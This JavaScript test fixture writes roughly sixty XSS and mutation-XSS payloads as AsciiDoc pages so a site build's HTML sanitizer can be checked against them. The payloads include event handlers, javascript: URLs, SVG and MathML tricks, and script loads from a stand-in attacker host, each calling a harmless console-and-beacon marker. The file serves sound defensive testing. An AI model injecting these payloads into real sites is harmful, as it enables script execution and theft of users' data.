// The hostile passthrough payloads of the payload check (payload-check.mjs), one AsciiDoc page each, so that in the
// trusted control no payload can hide another (an unclosed <plaintext> or <svg> would swallow the rest of a page).
// Every payload runs marker(name) if its script ever runs: a console line "PWNED:<name>" (seen from any frame, even
// an opaque data: one) and a request to /__pwned?<name> on the test server (seen even from a file opened directly).
// Script fetched from the attacker's host (pwned.invalid) is answered by the check itself with marker code, so it
// counts only if the browser asked for it. References are data: URLs or absent, so the safe build's link check
// passes; the list follows UnsafeHtmlRemoverTest's HOSTILE payloads, with markers instead of alert(1).
import fs from 'node:fs';
import path from 'node:path';

/** Marker code with no space, '"', '<' or '>', so it fits unquoted attributes and javascript: URLs as it is. */
export const marker = name => `console.log('PWNED:${name}');navigator.sendBeacon('/__pwned?${name}')`;
const m = marker;
const b64 = text => Buffer.from(text).toString('base64');
const html = text => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** [name, passthrough HTML, how it is written: 'block' (++++), 'pass' (pass:[...]) or 'plus' (+++...+++)] */
export const PAYLOADS = [
  ['script-inline', n => `<script>${m(n)}</script>`],
  ['script-upper-case', n => `<div><SCRIPT>${m(n)}</SCRIPT></div>`],
  ['script-src-attacker-host', n => `<script src="https://pwned.invalid/${n}.js"></script>`],
  ['script-src-data', n => `<script src="data:text/javascript,${encodeURIComponent(m(n))}"></script>`],
  ['img-onerror', n => `<img src="data:,x" onerror="${m(n)}" alt="">`],
  ['img-onerror-no-space', n => `<img src="data:,x"onerror="${m(n)}" alt="">`],
  ['pass-macro-onerror', n => `<img src="data:,x" onerror="${m(n)}" alt="">`, 'pass'],
  ['triple-plus-onerror', n => `<img src="data:,x" onerror="${m(n)}" alt="">`, 'plus'],
  ['a-slash-onclick', n => `<a/onclick="${m(n)};return false" href="#">click</a>`],
  ['p-onclick-style', n => `<p style="color:red" onclick="${m(n)}">styled</p>`],
  ['div-onmouseover', n => `<div onmouseover="${m(n)}">hover me</div>`],
  ['custom-element-onclick', n => `<x-widget onclick="${m(n)}"><span>inside</span></x-widget>`],
  ['input-autofocus-onfocus', n => `<input autofocus onfocus="${m(n)}">`],
  ['details-ontoggle', n => `<details open ontoggle="${m(n)}"><summary>s</summary></details>`],
  ['video-onerror', n => `<video src="data:,x" onerror="${m(n)}"></video>`],
  ['body-onload', n => `<body onload="${m(n)}"><p>body</p></body>`],
  ['noscript-mxss', n => `<noscript><p title="</noscript><img src=data:,x onerror=${m(n)}>"></noscript>`],
  ['noscript-plain', n => `<noscript><img src=data:,x onerror=${m(n)}></noscript>`],
  ['svg-onload', n => `<svg onload="${m(n)}" width="10" height="10"></svg>`],
  ['svg-script', n => `<svg><script>${m(n)}</script></svg>`],
  ['svg-script-href', n => `<svg><script href="data:text/javascript,${encodeURIComponent(m(n))}"></script></svg>`],
  ['svg-animate-href', n => `<svg width="200" height="40"><a><animate attributeName="href" values="javascript:${m(n)}"/><text x="20" y="20">animate</text></a></svg>`],
  ['svg-set-href', n => `<svg width="200" height="40"><a><set attributeName="href" to="javascript:${m(n)}"/><text x="20" y="20">set</text></a></svg>`],
  ['svg-animate-xlink-target', n => `<svg width="200" height="40"><animate xlink:href="#${n}-a" attributeName="href" values="javascript:${m(n)}"/><a id="${n}-a"><text x="20" y="20">target</text></a></svg>`],
  ['svg-a-xlink-javascript', n => `<svg width="200" height="40"><a xlink:href="javascript:${m(n)}"><text x="20" y="20">xlink</text></a></svg>`],
  ['svg-a-tab-javascript', n => `<svg width="200" height="40"><a href=" java&#9;script:${m(n)}"><text x="20" y="20">tab</text></a></svg>`],
  ['svg-title-mxss', n => `<svg></p><title><a id="</title><img src=data:,x onerror=${m(n)}>"></a></title></svg>`],
  ['svg-style-mxss', n => `<svg><p><style><a id="</style><img src=data:,x onerror=${m(n)}>"></a></style></p></svg>`],
  ['svg-style-unclosed', n => `<svg></p><style><a id="</style><img src=data:,x onerror=${m(n)}>">`],
  ['svg-foreignobject', n => `<svg><foreignObject width="10" height="10"><img src=data:,x onerror="${m(n)}"></foreignObject></svg>`],
  ['svg-use-data', n => `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="data:,x" onerror="${m(n)}"/></svg>`)}#x"/></svg>`],
  ['svg-handler', n => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${m(n)}</handler></svg>`],
  ['math-mglyph-style', n => `<math><mtext><table><mglyph><style><img src=data:,x onerror=${m(n)}>`],
  ['math-href', n => `<math href="javascript:${m(n)}"><mtext>math link</mtext></math>`],
  ['math-mi-xlink', n => `<math><mi xlink:href="javascript:${m(n)}">mi link</mi></math>`],
  ['template-content', n => `<template><img src=data:,x onerror=${m(n)}></template>`],
  ['xmp', n => `<xmp><img src=data:,x onerror=${m(n)}></xmp>`],
  ['noembed', n => `<noembed><img src=data:,x onerror=${m(n)}></noembed>`],
  ['noframes', n => `<noframes><img src=data:,x onerror=${m(n)}></noframes>`],
  ['select-style', n => `<select><style><img src=data:,x onerror=${m(n)}></style></select>`],
  ['textarea-title', n => `<textarea><img src=data:,x onerror=${m(n)}></textarea><title><img src=data:,x onerror=${m(n)}></title>`],
  ['plaintext', n => `<plaintext><img src=data:,x onerror=${m(n)}>`],
  ['a-javascript', n => `<a href="javascript:${m(n)}">plain</a>`],
  ['a-javascript-tab', n => `<a href=" java&#9;script:${m(n)}">tab</a>`],
  ['a-javascript-colon-entity', n => `<a href="JaVaScRiPt&colon;${m(n)}">entity</a>`],
  ['a-javascript-control-char', n => `<a href="&#x01;javascript:${m(n)}">control</a>`],
  ['a-javascript-newline', n => `<a href="java\nscript:${m(n)}">newline</a>`],
  ['a-data-html', n => `<a href="data:text/html,${html(`<script>${m(n)}</script>`)}">data</a>`],
  ['form-action', n => `<form action="javascript:${m(n)}"><button>form</button></form>`],
  ['button-formaction', n => `<form><button formaction="javascript:${m(n)}">formaction</button></form>`],
  ['input-formaction', n => `<form><input type="submit" formaction="javascript:${m(n)}" value="input"></form>`],
  ['meta-refresh-javascript', n => `<meta http-equiv="refresh" content="0;url=javascript:${m(n)}">`],
  ['meta-refresh-data', n => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(`<script>${m(n)}</script>`)}">`],
  ['base-javascript', n => `<base href="javascript:${m(n)}//"><a href="harmless.svg">base</a>`],
  ['iframe-srcdoc', n => `<iframe srcdoc="${html(`<script>${m(n)}</script>`)}"></iframe>`],
  ['iframe-src-data', n => `<iframe src="data:text/html,${html(`<script>${m(n)}</script>`)}"></iframe>`],
  ['iframe-src-javascript', n => `<iframe src="javascript:${m(n)}"></iframe>`],
  ['object-data-html', n => `<object data="data:text/html;base64,${b64(`<script>${m(n)}</script>`)}"></object>`],
  ['embed-data-svg', n => `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg"><script>${m(n)}</script></svg>`)}">`],
  ['img-svg-data-onload', n => `<img src="data:image/svg+xml,${html(`<svg xmlns="http://www.w3.org/2000/svg" onload="${m(n)}"/>`)}" alt="">`],
  ['link-import-attacker', n => `<link rel="stylesheet" href="https://pwned.invalid/${n}.css"><link rel="modulepreload" href="https://pwned.invalid/${n}.js">`],
];

/** Writes one page per payload into content/pages/ of a copied site (published as /<name>/); returns the names. */
export function writePages(site) {
  const folder = path.join(site, 'content', 'pages');
  fs.mkdirSync(folder, { recursive: true });
  const names = [];
  for (const [name, make, how = 'block'] of PAYLOADS) {
    const payload = make(name);
    const written = how === 'block' ? `++++\n${payload}\n++++` : how === 'pass' ? `A pass:[${payload}] inline.`
      : `A +++${payload}+++ inline.`;
    fs.writeFileSync(path.join(folder, `${name}.adoc`), `= Payload ${name}\n:jbake-type: page\n:jbake-status: published\n\n`
      + `${written}\n\nA harmless picture follows.\n\nimage::harmless.svg[A harmless chart]\n`);
    names.push(name);
  }
  return names;
}
